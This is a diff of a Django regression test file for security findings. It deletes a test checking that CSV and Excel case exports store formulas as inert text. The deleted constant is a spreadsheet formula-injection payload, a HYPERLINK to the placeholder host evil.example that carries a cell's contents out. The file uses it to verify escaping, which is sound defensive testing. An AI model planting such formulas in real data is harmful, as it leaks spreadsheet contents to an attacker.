@@ -1,6 +1,5 @@
 """Regression tests for what an attacker and a fuzzer found (issue 14): each walks the attack and checks the 4xx and
 the data left as it was."""
-import csv
 import io
 from urllib.parse import urlsplit
 
@@ -9,7 +8,6 @@ from django.core import mail
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.db import DatabaseError, connection, transaction
 from django.test import override_settings
-from openpyxl import load_workbook
 from PIL import Image
 
 from cases.models import Attachment, Case, CaseEvent
@@ -18,7 +16,6 @@ from core.tokens import token_issue, tokens_of
 from tests.cases.conftest import STATION_A, act, new_case, requires_postgres
 
 pytestmark = pytest.mark.django_db
-FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"点此")'
 
 
 def test_a_forged_forwarded_for_buys_no_extra_token_attempts(api):
@@ -84,16 +81,6 @@ def test_a_moment_with_an_offset_postgresql_refuses_is_read_in_utc(api_as, cast)
 def test_a_report_of_an_organisation_that_is_not_a_number_is_404(client):
     for value in ("abc", "²", "9" * 30):
         assert client.get("/orgs/public/report/", {"organisation": value}).status_code == 404
-
-
-def test_exports_show_formulas_as_text(client, cast):
-    case = new_case(cast.worker_a, title=FORMULA)
-    client.force_login(cast.dispatcher_a)
-    rows = list(csv.reader(io.StringIO(client.get("/cases/export.csv?view=all").getvalue().decode("utf-8-sig"))))
-    assert next(row for row in rows if row[0] == case.number)[1] == "'" + FORMULA
-    book = load_workbook(io.BytesIO(client.get("/cases/export.xlsx?view=all").content))
-    cell = next(row[1] for row in book.active.iter_rows(min_row=2) if row[0].value == case.number)
-    assert (cell.value, cell.data_type) == (FORMULA, "s")  # stored as text: Excel shows it and runs nothing
 
 
 def test_a_step_that_takes_the_case_out_of_sight_answers_200_then_404(api_as, cast, client):
